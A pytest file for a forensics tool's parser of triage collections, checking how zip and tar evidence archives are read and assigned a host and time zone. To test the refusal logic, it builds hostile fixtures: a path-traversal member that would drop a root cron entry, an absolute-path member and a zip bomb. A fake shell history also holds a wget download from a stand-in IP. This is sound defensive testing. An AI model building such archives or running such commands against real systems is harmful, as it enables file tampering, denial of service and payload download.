"""Triage collections: members parsed like loose files, nothing written, hostile archives refused."""

from __future__ import annotations

import io
import os
import tarfile
import zipfile
from pathlib import Path

import pytest

from parsers.base import HEAD_BYTES, Options
from parsers.collection import CollectionParser
from parsers.evtx import EvtxParser
from tests.parsers.evtx_helpers import parse_file

PARSER = CollectionParser()
EVTX = "evtx/evtx-rs-samples/sysmon.evtx"
AUTH = "linux/auth/plaso/syslog_ssh.log"


def _kape_zip(corpus: Path, path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.write(corpus / EVTX, "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx")
        z.write(corpus / AUTH, "var/log/auth.log")
        z.writestr("C/Users/alice/notes.txt", "not an artifact any parser knows\n")
    return path


def _rows_by_member(rows: list[dict]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for row in rows:
        counts[row["source_file"]] = counts.get(row["source_file"], 0) + 1
    return counts


def test_zip_members_give_the_rows_loose_files_give(corpus: Path, tmp_path: Path) -> None:
    archive = _kape_zip(corpus, tmp_path / "WS01-kape.zip")
    rows, found = parse_file(PARSER, archive, Options(timezone="UTC"))
    member = "C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"
    assert _rows_by_member(rows) == {member: 358, "var/log/auth.log": 9}
    loose, loose_found = parse_file(EvtxParser(), corpus / EVTX)  # a dirty file: its notes come along
    assert [(w.location, w.reason) for w in found] == [
        (f"{member}: {w.location}", w.reason) for w in loose_found
    ]
    inside = [r for r in rows if r["source"] == "windows_evtx"]
    assert [{k: v for k, v in r.items() if k != "source_file"} for r in inside] == [
        {k: v for k, v in r.items() if k != "source_file"} for r in loose
    ]


def test_tar_collections_too(corpus: Path, tmp_path: Path) -> None:
    archive = tmp_path / "srv-uac.tar"
    with tarfile.open(archive, "w") as tar:
        tar.add(corpus / AUTH, "[root]/var/log/auth.log")
    rows, found = parse_file(PARSER, archive)
    assert found == []
    assert _rows_by_member(rows) == {"[root]/var/log/auth.log": 9}


def test_hostile_members_are_refused_and_nothing_is_written(corpus: Path, tmp_path: Path) -> None:
    archive = tmp_path / "hostile.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("../../etc/cron.d/evil", "* * * * * root id\n")
        z.writestr("/abs/path.txt", "x")
        z.writestr("bomb.bin", bytes(80 << 20))  # 80 MiB of zeros: deflates about 1000x
        z.write(corpus / AUTH, "var/log/auth.log")
    before = sorted(p.name for p in tmp_path.iterdir())
    rows, found = parse_file(PARSER, archive)
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert [(w.location, w.reason.split(":")[0]) for w in found] == [
        ("../../etc/cron.d/evil", "member name climbs out of the archive"),
        ("/abs/path.txt", "member name climbs out of the archive"),
        (
            "bomb.bin",
            f"expands {(80 << 20) / zipfile.ZipFile(archive).getinfo('bomb.bin').compress_size:,.0f}x",
        ),
    ]
    assert _rows_by_member(rows) == {"var/log/auth.log": 9}


@pytest.mark.parametrize(
    ("first_member", "collection"),
    [
        ("[Content_Types].xml", False),
        ("mimetype", False),
        ("META-INF/MANIFEST.MF", False),
        ("C/Windows/x", True),
    ],
)
def test_office_documents_are_not_collections(first_member: str, collection: bool) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(first_member, "x")
    assert PARSER.sniff(buf.getvalue()[:HEAD_BYTES]) is collection


def test_a_gzipped_tar_collection_through_the_ingest(corpus: Path, tmp_path: Path) -> None:
    """``.tar.gz``: the ingest decompresses, the collection parser walks the members."""
    from forensics import Case

    archive = tmp_path / "evidence" / "srv01-uac.tar.gz"
    archive.parent.mkdir()
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(corpus / AUTH, "[root]/var/log/auth.log")
        tar.add(corpus / EVTX, "[root]/evtx/sysmon.evtx")
    case = Case.open(tmp_path / "case")
    report = case.ingest([archive.parent])
    (result,) = report.files
    assert (result.status, result.parser, result.records) == ("ok", "collection", 367)
    assert result.reason.startswith("gzip-compressed")
    by_file = dict(
        case.sql("SELECT source_file, count(*) AS n FROM timeline GROUP BY 1").itertuples(index=False)
    )
    assert by_file == {"[root]/var/log/auth.log": 9, "[root]/evtx/sysmon.evtx": 358}
    evidence = set(case.sql("SELECT DISTINCT evidence_id FROM timeline").evidence_id)
    assert evidence == {result.sha256}


_HOST_FILES = {
    "etc/hostname": b"srv42\n",
    "etc/timezone": b"America/New_York\n",
    "etc/passwd": b"root:x:0:0:root:/root:/bin/bash\n",
    "root/.bash_history": b"id\nwget http://203.0.113.9/x\n",
}
_MTIME = 1_700_000_000  # 2023-11-14: the year syslog lines without one are placed in


def _layout(corpus: Path, tmp_path: Path, layout: str) -> Path:
    """The same host's files in the layouts of the common collectors."""
    files = {**_HOST_FILES, "var/log/auth.log": (corpus / AUTH).read_bytes()}
    if layout == "folder":
        root = tmp_path / "srv42-triage"
        for name, data in files.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_bytes(data)
            os.utime(root / name, (_MTIME, _MTIME))
        return root
    if layout == "velociraptor.zip":
        path = tmp_path / "Collection-srv42.zip"
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("uploads.json", "[]")
            for name, data in files.items():
                z.writestr(zipfile.ZipInfo("uploads/auto/" + name, (2023, 11, 14, 22, 13, 20)), data)
        return path
    prefix, mode, name = {
        "plain.tar": ("", "w", "srv42.tar"),
        "uac.tar.gz": ("[root]/", "w:gz", "uac-srv42.tar.gz"),
        "acquire.tar": ("fs/$rootfs$/", "w", "srv42.acquire.tar"),
    }[layout]
    path = tmp_path / name
    with tarfile.open(path, mode) as tar:
        for member, data in files.items():
            info = tarfile.TarInfo(prefix + member)
            info.size, info.mtime = len(data), _MTIME
            tar.addfile(info, io.BytesIO(data))
    return path


@pytest.mark.parametrize("layout", ["plain.tar", "uac.tar.gz", "acquire.tar", "velociraptor.zip", "folder"])
def test_a_collection_is_read_as_its_host(corpus: Path, tmp_path: Path, layout: str) -> None:
    """dissect.target's loaders name the host and its zone: local times become UTC in that zone
    and rows that name no host (a shell history) get the collection's."""
    from forensics import Case

    evidence = _layout(corpus, tmp_path, layout)
    case = Case.open(tmp_path / "case")
    report = case.ingest([evidence])
    rows = case.sql(
        "SELECT source, source_file, host_name, datetime, fields['time_zone'] AS zone, message FROM timeline "
        "ORDER BY source, datetime NULLS FIRST, source_record"
    )
    history = rows[rows.source == "shell_history"]
    assert list(history.host_name) == ["srv42", "srv42"]
    auth = rows[rows.source == "syslog"]
    assert len(auth) == 9 and set(auth.zone) == {"America/New_York"}
    # Mar 11 00:00:00 in New York, 2023 (before the DST change of March 12): 05:00 UTC.
    assert str(auth.datetime.iloc[0]) == "2023-03-11 05:00:00+00:00"
    assert list(auth.host_name.iloc[:2]) == ["ubuntu2015", "osx-machine"]  # the lines' own hosts win
    if layout == "folder":
        (host,) = report.contexts.values()
        assert (host.hostname, host.timezone, host.loader) == ("srv42", "America/New_York", "dir")
    else:
        (opened,) = rows[rows.source == "collection"].itertuples()
        assert opened.host_name == "srv42"
        assert "hostname=srv42; timezone=America/New_York" in opened.message


def test_a_folder_of_loose_files_has_no_host(corpus: Path, tmp_path: Path) -> None:
    """A folder that is not a host's tree stays loose files: UTC unless told, no host invented."""
    from forensics import Case

    folder = tmp_path / "loose"
    folder.mkdir()
    (folder / "auth.log").write_bytes((corpus / AUTH).read_bytes())
    report = Case.open(tmp_path / "case").ingest([folder])
    assert report.contexts == {}
